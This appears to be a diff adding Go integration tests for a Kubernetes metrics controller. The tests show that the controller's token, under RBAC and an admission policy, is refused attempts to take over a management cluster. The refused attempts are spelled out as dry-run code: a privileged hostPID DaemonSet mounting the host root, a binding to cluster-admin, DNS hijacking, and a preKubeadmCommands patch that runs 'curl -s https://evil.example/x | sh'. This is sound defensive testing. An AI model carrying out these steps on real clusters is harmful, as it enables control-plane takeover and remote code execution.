@@ -2,22 +2,33 @@ package integration
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	appsv1 "k8s.io/api/apps/v1"
 	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/client-go/dynamic"
 	"k8s.io/client-go/kubernetes"
 	"k8s.io/client-go/tools/clientcmd"
 	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
+	"k8s.io/utils/ptr"
 
+	"github.com/eksa-metrics/eksa-metrics/pkg/kubeproxy"
+	"github.com/eksa-metrics/eksa-metrics/pkg/spec"
 	"github.com/eksa-metrics/eksa-metrics/pkg/templates"
+	"github.com/eksa-metrics/eksa-metrics/test/framework"
 )
 
 // putMetricsConfig applies a MetricsConfig namespace/name with a spec.
@@ -164,7 +175,7 @@ func TestControllerRefusesWhatItsAuthorsMayNotDo(t *testing.T) {
 	}
 	ds := func(ns, sa string) *appsv1.DaemonSet {
 		l := map[string]string{"app": "probe"}
-		return &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "probe", Namespace: ns}, Spec: appsv1.DaemonSetSpec{
+		return &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: templates.NodeDS, Namespace: ns, Labels: map[string]string{templates.ManagedByLabel: templates.Prefix}}, Spec: appsv1.DaemonSetSpec{
 			Selector: &metav1.LabelSelector{MatchLabels: l},
 			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: l}, Spec: corev1.PodSpec{ServiceAccountName: sa,
 				Containers: []corev1.Container{{Name: "c", Image: "registry.example/probe:1"}}}}}}
@@ -175,7 +186,7 @@ func TestControllerRefusesWhatItsAuthorsMayNotDo(t *testing.T) {
 	} else if err != nil && !strings.Contains(err.Error(), templates.ProxySA) {
 		t.Errorf("refused, but not by the admission policy: %v", err)
 	}
-	if _, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, ds("kube-system", templates.ProxySA), dry); err != nil {
+	if _, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, proxyDaemonSet(spec.DefaultKubeRBACProxyImage), dry); err != nil {
 		t.Errorf("the controller may not create its own proxy DaemonSet: %v", err)
 	}
 	if _, err := as.AppsV1().DaemonSets("default").Create(ctx, ds("default", templates.ProxySA), dry); !apierrors.IsForbidden(err) {
@@ -184,7 +195,8 @@ func TestControllerRefusesWhatItsAuthorsMayNotDo(t *testing.T) {
 	// It cannot mint a token of another ServiceAccount through a token
 	// Secret, only of the sidecar's.
 	tokenSecret := func(sa string) *corev1.Secret {
-		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "probe-token", Namespace: "kube-system", Annotations: map[string]string{corev1.ServiceAccountNameKey: sa}},
+		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "probe-token", Namespace: "kube-system", Annotations: map[string]string{corev1.ServiceAccountNameKey: sa},
+			Labels: map[string]string{templates.ManagedByLabel: templates.Prefix}},
 			Type: corev1.SecretTypeServiceAccountToken}
 	}
 	if _, err := as.CoreV1().Secrets("kube-system").Create(ctx, tokenSecret("clusterrole-aggregation-controller"), dry); !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err) {
@@ -212,4 +224,305 @@ func TestControllerRefusesWhatItsAuthorsMayNotDo(t *testing.T) {
 	if err := patch("eksa-controller-manager"); err != nil {
 		t.Errorf("the controller may not edit a management Deployment it edits: %v", err)
 	}
+}
+
+// The controller's own token, with the RBAC and admission policy of
+// `controller manifests`, on the real API server: each way it could take
+// over the management cluster is refused, and what the controller does is
+// not. Every attempt is a server-side dry run (admission runs, nothing is
+// stored).
+func TestControllerTokenCannotTakeThePlatform(t *testing.T) {
+	ctx := context.Background()
+	f := newFleet(t)
+	mgmt := f.mgmt
+	mgmt.InstallCRDDir(t, "cert-manager")
+	installPackageCRD(t, mgmt)
+	if err := mgmt.Apply(ctx, "eks-a-controller", true, eksaKCP(t, "docker.v1beta2", "v1beta2")); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := clientcmd.BuildConfigFromFlags("", f.controllerKubeconfig)
+	if err != nil {
+		t.Fatal(err)
+	}
+	as := kubernetes.NewForConfigOrDie(cfg)
+	dyn := dynamic.NewForConfigOrDie(cfg)
+	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
+	dryPatch := metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}, FieldManager: "eksa-metrics"}
+	dryDelete := metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}}
+	ours := map[string]string{templates.ManagedByLabel: templates.Prefix}
+
+	// What the platform has, written by its admin.
+	for _, obj := range []map[string]any{
+		{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "coredns", "namespace": "kube-system"}, "data": map[string]any{"Corefile": ".:53 {}"}},
+		// The discovery Role where a binding's check needs it to exist.
+		{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": map[string]any{"name": templates.DiscoveryRole, "namespace": "eksa-system", "labels": map[string]any{templates.ManagedByLabel: templates.Prefix}},
+			"rules": []any{map[string]any{"apiGroups": []any{""}, "resources": []any{"pods"}, "verbs": []any{"get"}}}},
+		{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": map[string]any{"name": templates.DiscoveryRole, "namespace": "monitoring", "labels": map[string]any{templates.ManagedByLabel: templates.Prefix}},
+			"rules": []any{map[string]any{"apiGroups": []any{""}, "resources": []any{"pods"}, "verbs": []any{"get"}}}},
+		{"apiVersion": "packages.eks.amazonaws.com/v1alpha1", "kind": "Package", "metadata": map[string]any{"name": "metallb", "namespace": "eksa-packages-mgmt"},
+			"spec": map[string]any{"packageName": "metallb", "targetNamespace": "metallb-system"}},
+	} {
+		if ns, _, _ := unstructured.NestedString(obj, "metadata", "namespace"); ns != "" {
+			mgmt.ServiceAccount(t, ns, "default")
+		}
+		if err := mgmt.Apply(ctx, "platform", true, obj); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	type attempt struct {
+		name string
+		do   func() error
+	}
+	refused := []attempt{
+		{"patch kube-system/coredns", func() error {
+			_, err := as.CoreV1().ConfigMaps("kube-system").Patch(ctx, "coredns", types.MergePatchType, []byte(`{"data":{"Corefile":". {forward . 203.0.113.1}"}}`), dryPatch)
+			return err
+		}},
+		{"a privileged, hostPID DaemonSet with hostPath / and its own image, as the proxies' ServiceAccount", func() error {
+			d := proxyDaemonSet("registry.example/evil:1")
+			d.Spec.Template.Spec.HostPID = true
+			d.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
+			d.Spec.Template.Spec.Volumes = []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
+			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, d, dry)
+			return err
+		}},
+		{"the proxy DaemonSet from another image", func() error {
+			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, proxyDaemonSet("registry.example/evil:1"), dry)
+			return err
+		}},
+		{"the proxy DaemonSet, privileged", func() error {
+			d := proxyDaemonSet(spec.DefaultKubeRBACProxyImage)
+			d.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
+			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, d, dry)
+			return err
+		}},
+		{"a Role giving eksa-system's Secrets", func() error {
+			_, err := as.RbacV1().Roles("eksa-system").Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: templates.DiscoveryRole, Labels: ours},
+				Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list"}}}}, dry)
+			return err
+		}},
+		{"a RoleBinding to system:authenticated", func() error {
+			_, err := as.RbacV1().RoleBindings("eksa-system").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: templates.DiscoveryRole, Labels: ours},
+				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: templates.DiscoveryRole},
+				Subjects: []rbacv1.Subject{{Kind: rbacv1.GroupKind, APIGroup: rbacv1.GroupName, Name: "system:authenticated"}}}, dry)
+			return err
+		}},
+		{"a ClusterRoleBinding to cluster-admin", func() error {
+			_, err := as.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: templates.ReaderRole + "-x", Labels: ours},
+				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
+				Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "default", Namespace: "default"}}}, dry)
+			return err
+		}},
+		{"delete the cluster-admin ClusterRoleBinding", func() error {
+			return as.RbacV1().ClusterRoleBindings().Delete(ctx, "cluster-admin", dryDelete)
+		}},
+		{"empty system:auth-delegator", func() error {
+			_, err := as.RbacV1().ClusterRoles().Patch(ctx, templates.AuthDelegator, types.MergePatchType, []byte(`{"rules":[]}`), dryPatch)
+			return err
+		}},
+		{"take over the platform's metallb Package", func() error {
+			_, err := dyn.Resource(packageGVR).Namespace("eksa-packages-mgmt").Patch(ctx, "metallb", types.MergePatchType,
+				[]byte(`{"metadata":{"labels":{"`+templates.ManagedByLabel+`":"`+templates.Prefix+`"}},"spec":{"packageName":"prometheus","targetNamespace":"kube-system"}}`), dryPatch)
+			return err
+		}},
+		{"delete the platform's metallb Package", func() error {
+			return dyn.Resource(packageGVR).Namespace("eksa-packages-mgmt").Delete(ctx, "metallb", dryDelete)
+		}},
+		{"a cert-manager Issuer over the cluster's CA", func() error {
+			_, err := dyn.Resource(issuerGVR).Namespace("eksa-system").Create(ctx, &unstructured.Unstructured{Object: map[string]any{
+				"apiVersion": "cert-manager.io/v1", "kind": "Issuer", "metadata": map[string]any{"name": templates.CAIssuer, "labels": map[string]any{templates.ManagedByLabel: templates.Prefix}},
+				"spec": map[string]any{"ca": map[string]any{"secretName": "mgmt-ca"}}}}, dry)
+			return err
+		}},
+		{"preKubeadmCommands on the KubeadmControlPlane", func() error {
+			_, err := dyn.Resource(kcpGVR(spec.CAPIv1beta2)).Namespace("eksa-system").Patch(ctx, "test", types.MergePatchType,
+				[]byte(`{"spec":{"kubeadmConfigSpec":{"preKubeadmCommands":["curl -s https://evil.example/x | sh"]}}}`), dryPatch)
+			return err
+		}},
+		{"anonymous-auth on the API server", func() error {
+			return patchExtraArgs(ctx, t, dyn, mgmt, "apiServer", "anonymous-auth", "true")
+		}},
+	}
+	for _, a := range refused {
+		err := a.do()
+		switch {
+		case err == nil:
+			t.Errorf("%s: allowed to the controller's token", a.name)
+		case !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err):
+			t.Errorf("%s: failed, but not refused: %v", a.name, err)
+		default:
+			t.Logf("refused: %s: %v", a.name, err)
+		}
+	}
+
+	// What the controller does (the test can fail): its own proxy
+	// DaemonSet, a role it renders bound to a scraper, a z-page gate in
+	// the scheduler's extraArgs, kube-proxy's restart.
+	allowed := []attempt{
+		{"the proxy DaemonSet", func() error {
+			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, proxyDaemonSet(spec.DefaultKubeRBACProxyImage), dry)
+			return err
+		}},
+		{"the discovery Role and its binding", func() error {
+			if _, err := as.RbacV1().Roles("monitoring").Update(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: templates.DiscoveryRole, Labels: ours},
+				Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods", "services"}, Verbs: []string{"get", "list", "watch"}}}},
+				metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}}); err != nil {
+				return err
+			}
+			_, err := as.RbacV1().RoleBindings("monitoring").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: templates.DiscoveryRole, Labels: ours},
+				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: templates.DiscoveryRole},
+				Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "prometheus-k8s", Namespace: "monitoring"}}}, dry)
+			return err
+		}},
+		{"a z-page gate for the scheduler", func() error {
+			return patchExtraArgs(ctx, t, dyn, mgmt, "scheduler", "feature-gates", "ComponentStatusz=true")
+		}},
+	}
+	for _, a := range allowed {
+		if err := a.do(); err != nil {
+			t.Errorf("%s: refused to the controller: %v", a.name, err)
+		}
+	}
+}
+
+var (
+	packageGVR = schema.GroupVersionResource{Group: "packages.eks.amazonaws.com", Version: "v1alpha1", Resource: "packages"}
+	issuerGVR  = schema.GroupVersionResource{Group: "cert-manager.io", Version: "v1", Resource: "issuers"}
+)
+
+// proxyDaemonSet is the kube-proxy proxy DaemonSet as the controller writes
+// it, in the parts the admission policy reads.
+func proxyDaemonSet(image string) *appsv1.DaemonSet {
+	l := map[string]string{"app": templates.NodeDS}
+	return &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: templates.NodeDS, Namespace: "kube-system", Labels: map[string]string{templates.ManagedByLabel: templates.Prefix}},
+		Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: l},
+			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: l}, Spec: corev1.PodSpec{ServiceAccountName: templates.ProxySA, HostNetwork: true,
+				Containers: []corev1.Container{{Name: "kube-rbac-proxy", Image: image, SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: ptr.To(false)}}}}}}}
+}
+
+// patchExtraArgs adds (or sets) one extraArgs item of a component of the
+// KubeadmControlPlane eksa-system/test, as a dry run of the controller.
+func patchExtraArgs(ctx context.Context, t *testing.T, dyn dynamic.Interface, cp *framework.ControlPlane, comp, name, value string) error {
+	t.Helper()
+	path := []string{"spec", "kubeadmConfigSpec", "clusterConfiguration", comp, "extraArgs"}
+	args, _, _ := unstructured.NestedSlice(liveKCP(t, cp, spec.CAPIv1beta2).Object, path...)
+	args = slices.DeleteFunc(args, func(a any) bool { return a.(map[string]any)["name"] == name })
+	args = append(args, map[string]any{"name": name, "value": value})
+	patch := map[string]any{}
+	_ = unstructured.SetNestedSlice(patch, args, path...)
+	body, _ := json.Marshal(patch)
+	_, err := dyn.Resource(kcpGVR(spec.CAPIv1beta2)).Namespace("eksa-system").Patch(ctx, "test", types.MergePatchType, body,
+		metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+	return err
+}
+
+// installPackageCRD serves the Package kind of the EKS Anywhere packages
+// controller (packages.eks.amazonaws.com/v1alpha1), with an open schema: a
+// stand-in for its CRD, which the test bed does not build, enough for the
+// admission policy, which reads spec.packageName and the labels.
+func installPackageCRD(t *testing.T, cp *framework.ControlPlane) {
+	t.Helper()
+	crd := map[string]any{"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
+		"metadata": map[string]any{"name": "packages.packages.eks.amazonaws.com"},
+		"spec": map[string]any{"group": "packages.eks.amazonaws.com", "scope": "Namespaced",
+			"names": map[string]any{"kind": "Package", "listKind": "PackageList", "plural": "packages", "singular": "package"},
+			"versions": []any{map[string]any{"name": "v1alpha1", "served": true, "storage": true,
+				"schema": map[string]any{"openAPIV3Schema": map[string]any{"type": "object", "properties": map[string]any{
+					"spec": map[string]any{"type": "object", "x-kubernetes-preserve-unknown-fields": true}}}}}}}}
+	if err := cp.Apply(context.Background(), "testbed", true, crd); err != nil {
+		t.Fatal(err)
+	}
+	framework.WaitFor(t, "the Package API", 30*time.Second, func() (bool, error) {
+		_, err := cp.Dynamic.Resource(packageGVR).List(context.Background(), metav1.ListOptions{})
+		return err == nil, nil
+	})
+}
+
+// The documented management setup (examples/vsphere-management.yaml's
+// metrics section: a ServiceAccount scraper, ServiceMonitors with its token
+// Secret) through the controller, with the RBAC and admission policy of
+// `controller manifests`, on a management cluster with the docker
+// provider's management controllers, cert-manager and the curated packages
+// controller; then bindAddress, which edits kube-proxy's configuration and
+// restarts its DaemonSet. The policy and the render agree: each is applied.
+func TestControllerAppliesTheManagementSetup(t *testing.T) {
+	ctx := context.Background()
+	f := newFleet(t, "mgmt")
+	mgmt := f.mgmt
+	mgmt.InstallUpstream(t, "eksa-controller-manager-v0.26.1.yaml", "capi-core-v1.13.2.yaml", "capi-kubeadm-bootstrap-v1.13.2.yaml",
+		"capi-kubeadm-control-plane-v1.13.2.yaml", "capd-v1.13.2.yaml", "etcdadm-bootstrap-provider-v1.0.22.yaml",
+		"etcdadm-controller-v1.0.28.yaml", "eks-anywhere-packages-v0.4.17.yaml", "cert-manager-v1.20.2.yaml")
+	mgmt.InstallCRDDir(t, "prometheus-operator")
+	mgmt.ServiceAccount(t, "monitoring", "prometheus-k8s")
+	l := map[string]any{"k8s-app": "kube-proxy"}
+	for _, obj := range []map[string]any{
+		{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": kubeproxy.Name, "namespace": kubeproxy.Namespace},
+			"data": map[string]any{kubeproxy.Key: framework.KubeadmKubeProxyConfig}},
+		{"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": map[string]any{"name": "kube-proxy", "namespace": "kube-system"},
+			"spec": map[string]any{"selector": map[string]any{"matchLabels": l}, "template": map[string]any{"metadata": map[string]any{"labels": l},
+				"spec": map[string]any{"containers": []any{map[string]any{"name": "kube-proxy", "image": "registry.k8s.io/kube-proxy:v1.36.3"}}}}}},
+	} {
+		if err := mgmt.Apply(ctx, "kubeadm", true, obj); err != nil {
+			t.Fatal(err)
+		}
+	}
+	f.startController(t, &counter{reqs: map[string]int{}})
+	metrics := map[string]any{"clusterRef": map[string]any{"kind": "Cluster", "name": "mgmt"},
+		"scrapers":     []any{map[string]any{"kind": "ServiceAccount", "name": "prometheus-k8s", "namespace": "monitoring"}},
+		"exposure":     "proxy",
+		"components":   map[string]any{"etcd": map[string]any{"metricsLevel": "basic"}},
+		"tls":          map[string]any{"minVersion": "VersionTLS12"},
+		"scrapeConfig": map[string]any{"serviceMonitors": true, "prometheus": true, "namespace": "monitoring"}}
+	f.putMetricsConfig(t, "default", "mgmt", metrics)
+	applied := func(what string, done func() error) {
+		t.Helper()
+		f.waitFor(t, what, func() error {
+			mc, err := mgmt.Dynamic.Resource(metricsConfigGVR).Namespace("default").Get(ctx, "mgmt", metav1.GetOptions{})
+			if err != nil {
+				return err
+			}
+			clusters, _, _ := unstructured.NestedSlice(mc.Object, "status", "clusters")
+			for _, c := range clusters {
+				for _, cond := range c.(map[string]any)["conditions"].([]any) {
+					cond := cond.(map[string]any)
+					if cond["type"] == "Applied" && cond["status"] != "True" {
+						return fmt.Errorf("Applied %s %s: %s", cond["status"], cond["reason"], cond["message"])
+					}
+				}
+			}
+			if err := done(); err != nil {
+				return fmt.Errorf("%w; status %v", err, mc.Object["status"])
+			}
+			return nil
+		})
+	}
+	applied("the management setup applied", func() error {
+		if _, err := mgmt.Client.CoreV1().Secrets("monitoring").Get(ctx, templates.ScraperTokenSecret, metav1.GetOptions{}); err != nil {
+			return err
+		}
+		_, err := mgmt.Client.AppsV1().DaemonSets("kube-system").Get(ctx, templates.ControlPlaneDS, metav1.GetOptions{})
+		return err
+	})
+	f.waitFor(t, "the packages controller's sidecar", func() error { return sidecar(t, mgmt, true) })
+
+	metrics["exposure"], metrics["allowInsecure"], metrics["allowControlPlaneRollout"] = "bindAddress", true, true
+	f.putMetricsConfig(t, "default", "mgmt", metrics)
+	applied("bindAddress applied, kube-proxy restarted", func() error {
+		cm, err := mgmt.Client.CoreV1().ConfigMaps(kubeproxy.Namespace).Get(ctx, kubeproxy.Name, metav1.GetOptions{})
+		if err != nil {
+			return err
+		}
+		if !strings.Contains(cm.Data[kubeproxy.Key], "0.0.0.0:10249") {
+			return fmt.Errorf("kube-proxy's configuration not edited")
+		}
+		ds, err := mgmt.Client.AppsV1().DaemonSets("kube-system").Get(ctx, "kube-proxy", metav1.GetOptions{})
+		if err != nil {
+			return err
+		}
+		if len(ds.Spec.Template.Annotations) == 0 {
+			return fmt.Errorf("kube-proxy not restarted")
+		}
+		return nil
+	})
 }
